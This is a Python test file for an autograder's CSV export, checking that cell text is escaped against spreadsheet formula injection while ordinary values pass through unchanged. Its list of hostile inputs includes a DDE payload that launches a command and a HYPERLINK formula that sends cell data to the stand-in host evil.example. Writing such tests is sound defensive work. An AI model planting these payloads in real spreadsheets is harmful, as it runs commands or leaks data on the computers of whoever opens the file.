from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from autograder.reports.cells import BOM, number, safe_text, table

SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫−"
HOSTILE = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u200b=1",
    "\ufeff=1",
    "\u00a0=1",
    "x;=1",
    "x, =1",
    'x"=1',
    '";=1',
    "x\t=1",
    "x|=1",
    "＝1",
    "−1",
    "'=1",
    "x;;=1",
    "=;=;=",
    "\x00=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
]


def starts_a_formula(cell: str) -> bool:
    """Whether a spreadsheet, splitting wherever one may, sees a cell that starts with a sign."""
    parts = re.split(r"[;,|\t\r\n\"]", cell)
    parts.append(cell)
    stripped = [re.sub(r"^[\s\u00ad\u200b-\u200f\u2060-\u2064\ufeff]+", "", part) for part in parts]
    return any(part and part[0] in SIGNS for part in stripped)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_are_disarmed(text: str) -> None:
    assert starts_a_formula(text) or text.startswith(("'", "\x00"))
    assert not starts_a_formula(safe_text(text))


@given(
    st.text(alphabet=st.sampled_from(list(SIGNS + ";,|\t\r\n\"'\u200b\ufeff \x00ab1")), max_size=12)
)
def test_no_text_starts_a_formula(text: str) -> None:
    safe = safe_text(text)
    assert re.fullmatch(r"-|-?[0-9]+(\.[0-9]+)?", safe) or not starts_a_formula(safe)
    assert "\n" not in safe and "\r" not in safe and "\x00" not in safe


@given(st.lists(st.lists(st.text(max_size=8), min_size=2, max_size=2), max_size=5))
def test_a_table_is_read_back_as_it_was_disarmed(rows: list[list[str]]) -> None:
    written = table(rows)
    assert written.startswith(BOM)
    read = list(csv.reader(io.StringIO(written[1:], newline="")))
    assert read == [[safe_text(cell) for cell in row] for row in rows]


@pytest.mark.parametrize(
    "text",
    [
        "Anna Ångström",
        "O'Brien, Jean-Luc",
        "0012",
        "a+b@example.org",
        "2026-11-03",
        "王伟",
        "-",
        "-1.50",
    ],
)
def test_ordinary_texts_stay(text: str) -> None:
    assert safe_text(text) == text


def test_numbers_stay_numbers() -> None:
    assert table([(-1.5, 2.0, 0.1 + 0.2, -0.0, None, 1e-9)], mark=False) == "-1.5,2,0.3,0,,0\r\n"
    assert number(1234567.0) == "1234567"


def test_a_name_that_starts_with_a_sign_gets_an_apostrophe() -> None:
    assert safe_text("-Peter") == "'-Peter"
